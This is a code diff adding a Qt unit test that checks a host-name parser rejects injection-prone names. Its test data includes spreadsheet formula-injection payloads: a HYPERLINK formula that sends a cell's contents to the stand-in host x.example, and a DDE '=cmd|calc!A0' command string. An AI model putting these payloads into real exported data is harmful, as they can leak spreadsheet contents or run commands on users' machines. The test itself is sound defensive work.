@@ -43,6 +43,8 @@ private slots:
     void safeOperand();
     void cleanHostName_data();
     void cleanHostName();
+    void lanHostName_data();
+    void lanHostName();
 
     void ping_data();
     void ping();
@@ -163,6 +165,24 @@ void TestProbeParsers::cleanHostName()
     QFETCH(QString, name);
     QFETCH(QString, clean);
     QCOMPARE(ProbeText::cleanHostName(name), clean);
+}
+
+void TestProbeParsers::lanHostName_data()
+{
+    QTest::addColumn<QString>("name");
+    QTest::addColumn<bool>("isName"); // else no name at all, not even a cleaned one
+    for (const QString& trap : {u"=HYPERLINK(\"http://x.example/?\"&A1)"_s, u"=cmd|calc!A0"_s,
+                                u" +1"_s, u"-2"_s, u"@A1"_s, u"a,b"_s, u"a\"b"_s, u"a\tb"_s})
+        QTest::newRow(qPrintable(trap)) << trap << false;
+    for (const QString& name : {u"表示ラボ "_s, u"O'Brien-PC"_s, u"Office Printer.local"_s})
+        QTest::newRow(qPrintable(name)) << name << true;
+}
+
+void TestProbeParsers::lanHostName()
+{
+    QFETCH(QString, name);
+    QFETCH(bool, isName);
+    QCOMPARE(ProbeText::lanHostName(name), isName ? ProbeText::cleanHostName(name) : QString());
 }
 
 void TestProbeParsers::ping_data()
